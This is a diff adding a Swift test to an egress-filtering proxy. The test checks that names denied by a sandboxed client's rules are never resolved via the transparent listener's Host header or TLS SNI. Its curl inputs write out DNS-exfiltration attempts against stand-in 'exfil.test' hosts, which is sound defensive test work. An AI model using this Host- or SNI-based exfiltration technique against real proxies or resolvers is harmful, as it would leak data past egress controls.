@@ -107,4 +107,88 @@ struct EgressNamespaceTests {
         }
         #expect(lines.contains { ($0["url"] as? String) == "http://public.test:80/captured" && $0["upstream"] as? String == "198.51.100.7:80" })
     }
+
+    @Test(
+        "a name the client's egress rules deny is never looked up from the transparent listener (Host or SNI): a sandboxed client cannot send data out through the proxy's resolver, nor learn where the name points; an allowed name still is"
+    )
+    func capturedNameDeniedIsNotLookedUp() throws {
+        let scratch = ScratchDirectory()
+        try FileManager.default.setAttributes([.posixPermissions: 0o755], ofItemAtPath: scratch.path)
+        // The global rules allow everything (the anonymous client's); the sandboxed client's do not.
+        scratch.write(
+            "config.yaml",
+            """
+            listen: "127.0.0.1:18080"
+            transparent: { listen: "127.0.0.1:15001" }
+            clients:
+              - name: agent
+                uid: \(Self.clientUID)
+                egress: { default: deny, allow: ["http://public.test"] }
+              - name: anonymous
+            tls: { tunnel: allow }
+            log: { format: json, output: \(scratch.path)/access.log }
+            """)
+        func curl(_ name: String, _ arguments: [String]) -> [String: Any] {
+            ["name": name, "argv": ["curl", "-sS", "-m", "20", "-w", "\n%{http_code}"] + arguments, "uid": Self.clientUID, "timeout": 30]
+        }
+        // The client never resolves a name itself (an address in the URL, or --resolve): every query
+        // the DNS server sees was sent by the proxy. The exfiltrating names resolve to the very
+        // address the client connects to, so the name rule alone would have let them count.
+        let spec: [String: Any] = [
+            "addresses": ["198.51.100.7/32", "10.77.0.53/32"],
+            "resolv_conf": "nameserver 10.77.0.53\n",
+            "dns": [
+                [
+                    "listen": "10.77.0.53:53",
+                    "answers": [
+                        "public.test": ["198.51.100.7"], "host-secret-4711.exfil.test": ["198.51.100.7"],
+                        "sni-secret-4712.exfil.test": ["198.51.100.7"],
+                    ],
+                ]
+            ],
+            "nft": """
+            table ip nat {
+              chain output {
+                type nat hook output priority -100; policy accept;
+                meta skuid \(Self.clientUID) tcp dport { 80, 443 } redirect to :15001
+              }
+            }
+
+            """,
+            "origins": [["name": "public", "listen": "198.51.100.7:80"]],
+            "background": [
+                [
+                    "name": "proxy", "argv": [ProxyProcess.binaryPath, "run", "--config", scratch.path + "/config.yaml"],
+                    "env": ["HOME": scratch.path], "ready": "listening on",
+                ]
+            ],
+            "commands": [
+                curl("allowed-name", ["-H", "Host: public.test", "http://198.51.100.7/allowed"]),
+                curl("denied-host", ["-H", "Host: host-secret-4711.exfil.test", "http://198.51.100.7/denied"]),
+                curl("denied-sni", ["-k", "--resolve", "sni-secret-4712.exfil.test:443:198.51.100.7", "https://sni-secret-4712.exfil.test/"]),
+            ],
+        ]
+        let report: NetnsRun.Report
+        switch try NetnsRun.run(spec, in: scratch.path) {
+        case .skipped(let reason):
+            print("EgressNamespaceTests skipped: \(reason)")
+            return
+        case .ran(let ran): report = ran
+        }
+        #expect(report.error == nil, "\(report.error ?? "")\n\(report.background["proxy"] ?? "")")
+        let asked = Set(report.dnsQueries.map { $0.lowercased() })
+        // The control: the proxy does resolve a name the client may reach (the server sees it).
+        #expect(asked.contains("public.test"), "\(asked)")
+        #expect(report.command("allowed-name")?.stdout.hasSuffix("\n200") == true, "\(report.command("allowed-name")?.stderr ?? "")")
+        // The attack: neither denied name left the proxy, in any form.
+        #expect(!asked.contains { $0.contains("exfil") || $0.contains("secret-47") }, "\(asked)")
+        let denied = report.command("denied-host")?.stdout ?? ""
+        #expect(denied.hasSuffix("\n403") && denied.contains("\"error\":\"egress_denied\""), "\(denied)")
+        // Nor an oracle: the refusal names the address the client chose, never whether the denied
+        // name resolves there (with a lookup, a name resolving to the destination became the origin).
+        #expect(!denied.contains("exfil") && denied.contains("http://198.51.100.7"), "\(denied)")
+        #expect(report.origins["public"]?.map(\.path) == ["/allowed"], "\(report.origins["public"] ?? [])")
+        // A TLS client that was refused is closed: curl reports a failed handshake, never a response.
+        #expect(report.command("denied-sni")?.rc != 0)
+    }
 }
